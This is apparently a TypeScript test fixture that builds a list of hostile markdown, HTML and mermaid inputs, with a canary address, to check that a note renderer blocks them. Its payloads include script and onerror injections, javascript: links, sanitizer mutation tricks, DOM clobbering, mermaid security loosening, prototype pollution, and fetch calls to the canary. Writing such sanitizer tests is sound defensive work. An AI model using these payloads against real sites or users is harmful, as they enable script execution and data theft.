/** Notes that try to run, load, navigate, restyle or pollute. `canary` is an address that must never be asked. */
export function hostilePayloads(canary: string): Record<string, string> {
  const run = `window.attacked=1;fetch('${canary}/script')`
  const fence = (source: string) => `\`\`\`mermaid\n${source}\n\`\`\``
  return {
    script: `<script>${run}</script>`,
    'script with a source': `<script src="${canary}/x.js"></script>`,
    'script split by another': `<scr<script>ipt>${run}</scr</script>ipt>`,
    'image error': `<img src=x onerror="${run}">`,
    'image error without quotes': `<img src=x onerror=${run}//`,
    'image from elsewhere': `![pixel](${canary}/pixel.png)`,
    'image from the host': '![api](/api/notes) ![relative](../index.html)',
    'image set': `<img srcset="${canary}/a.png 1x" src="data:image/png;base64,AAAA">`,
    'image as SVG': `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${run}'/>">`,
    'attachment that leads away': `![a](trivet://attachment/../../workspace.json) ![b](trivet://attachment/${canary}/x.png) ![c](trivet://attachment@${canary.replace('http://', '')}/x.png) <img data-attachment="${'a'.repeat(64)}.png" src="${canary}/da.png">`,
    'footnote, alert and heading': `# <img src=x onerror="${run}">\n\nx[^1] y[^<b>]\n\n[^1]: <img src=x onerror="${run}"> [y](javascript:1)\n\n> [!NOTE]\n> <script>${run}</script>`,
    'picture and source': `<picture><source srcset="${canary}/s.png"><img src="x"></picture>`,
    'javascript link': `[x](javascript:${run})`,
    'javascript link in disguise': `[x](java&#x09;script&colon;alert(1)) <a href=" javascript:${run}">x</a>`,
    'vbscript, data and file links':
      '[a](vbscript:x) [b](data:text/html,<script>1</script>) [c](file:///etc/passwd)',
    'program links': '[a](ms-msdt:/id) [b](smb://host/share) [c](\\\\host\\share) [d](trivet://run/x)',
    'web link': `[x](${canary}/link "title")`,
    autolink: `<${canary}/auto> and ${canary}/bare`,
    iframe: `<iframe src="${canary}/frame"></iframe><iframe srcdoc="<script>${run}</script>"></iframe>`,
    'object and embed': `<object data="${canary}/o"></object><embed src="${canary}/e">`,
    'svg with script': `<svg><script>${run}</script><image href="${canary}/svg.png"/></svg>`,
    'svg with animation': `<svg><a><animate attributeName="href" values="javascript:${run}"/><text>x</text></a></svg>`,
    'svg with use': `<svg><use href="${canary}/u.svg#x"/></svg>`,
    'mutation through math': `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
    'mutation through noscript': `<noscript><p title="</noscript><img src=x onerror=${run}>"></noscript>`,
    'mutation through svg style': `<svg></p><style><a id="</style><img src=1 onerror=${run}>">`,
    'form and fields': `<form action="${canary}/form"><input name="q" autofocus onfocus="${run}"><button>Send</button></form>`,
    'field outside a form': `<input formaction="${canary}/f" type="image" src="${canary}/i.png">`,
    style: `<style>@import url(${canary}/css); body { display: none }</style>`,
    'style attribute': `<p style="position:fixed;inset:0;background:url(${canary}/bg)">cover</p>`,
    'style sheet link': `<link rel="stylesheet" href="${canary}/l.css"><link rel="prefetch" href="${canary}/p">`,
    'refresh by meta': `<meta http-equiv="refresh" content="0;url=${canary}/meta">`,
    base: `<base href="${canary}/">\n\n[x](relative) ![x](relative.png)`,
    clobbering:
      '<a id="window"></a><a id="mermaid"></a><form name="parent"><input name="postMessage"></form><img name="getElementById">',
    'media and tracks': `<video src="${canary}/v" autoplay onloadstart="${run}"></video><audio src="${canary}/a"></audio>`,
    'opened details': `<details open ontoggle="${run}"><summary>x</summary></details>`,
    'area of a map': `<map name="m"><area href="${canary}/area" shape="default"></map><img usemap="#m">`,
    template: `<template><img src=x onerror="${run}"></template>`,
    'code fence language': '```"><img src=x onerror=fetch(1)>\ncode\n```',
    'forged marks of the frame':
      '<pre><code data-language="mermaid">graph TD; A--&gt;B</code></pre><span data-task="done"></span><span data-task="x:done:0" data-anchor="x"></span><div data-alert="x"></div><a data-href="javascript:1">x</a>',
    'table cell': `| <img src=x onerror="${run}"> | [a](javascript:1) |\n| --- | --- |\n| <svg onload=${run}> | b |`,
    'reference link': `[x][1]\n\n[1]: javascript:${encodeURIComponent(run)}`,
    'mermaid click': fence(
      `graph TD\n  A-->B\n  click A href "javascript:${run}"\n  click B call attacked()`,
    ),
    'mermaid HTML label': fence(
      `graph TD\n  A["<img src=x onerror='${run}'>"] --> B["<iframe src='${canary}/m'>"]`,
    ),
    'mermaid loosened by directive': fence(
      `%%{init: {"securityLevel": "loose", "htmlLabels": true, "themeCSS": "@import url(${canary}/t)"}}%%\ngraph TD\n  A["<b onclick=${run}>x</b>"]`,
    ),
    'mermaid style and font': fence(
      `%%{init: {"fontFamily": "x; } body { display: none } @import url(${canary}/f); a {"}}%%\ngraph TD\n  A:::x\n  classDef x fill:url(${canary}/fill)`,
    ),
    'mermaid image shape': fence(
      `flowchart TD\n  A@{ img: "${canary}/shape.png", label: "x", w: 60, h: 60 }`,
    ),
    'mermaid prototype pollution': fence(
      '%%{init: {"__proto__": {"polluted": 1}, "constructor": {"prototype": {"polluted": 1}}}}%%\ngraph TD\n  A-->B',
    ),
  }
}
